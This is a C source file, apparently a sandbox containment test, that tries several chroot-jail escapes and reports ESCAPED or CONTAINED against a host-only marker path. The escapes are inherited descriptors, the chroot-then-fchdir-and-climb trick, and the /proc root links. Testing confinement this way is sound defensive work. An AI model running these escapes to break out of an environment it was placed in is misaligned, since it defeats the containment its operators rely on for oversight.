/* Tries the classic ways out of a chroot-style jail; prints ESCAPED if one
 * reaches the path given in argv[1] (which exists only on the host). */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int reached(const char *marker, const char *how)
{
        struct stat st;
        if (stat(marker, &st) == 0) {
                printf("ESCAPED via %s\n", how);
                return 1;
        }
        return 0;
}

static void climb(void)
{
        for (int i = 0; i < 256; i++)
                if (chdir("..") < 0)
                        break;
}

int main(int argc, char **argv)
{
        if (argc < 2)
                return 2;
        const char *marker = argv[1];
        int found = 0;

        /* 1: inherited descriptors pointing at host directories */
        for (int fd = 3; fd < 256; fd++) {
                if (fchdir(fd) == 0) {
                        climb();
                        if (chroot(".") == 0)
                                found |= reached(marker, "an inherited fd");
                }
        }
        /* 2: chroot into a subdirectory while the cwd stays outside, then walk up */
        int root = open("/", O_RDONLY | O_DIRECTORY);
        mkdir("/tmp/vs-jail", 0700);
        if (chroot("/tmp/vs-jail") == 0) {
                if (root >= 0 && fchdir(root) == 0) {
                        climb();
                        if (chroot(".") == 0)
                                found |= reached(marker, "chroot and chdir ..");
                }
        } else {
                perror("chroot");
        }
        /* 3: the root links of /proc */
        char p[4096];
        snprintf(p, sizeof p, "/proc/1/root/../../..%s", marker);
        found |= reached(p, "/proc/1/root");
        snprintf(p, sizeof p, "/proc/self/root/../../..%s", marker);
        found |= reached(p, "/proc/self/root");
        climb();
        found |= reached(marker, "chdir ..");
        if (!found)
                printf("CONTAINED\n");
        return 0;
}
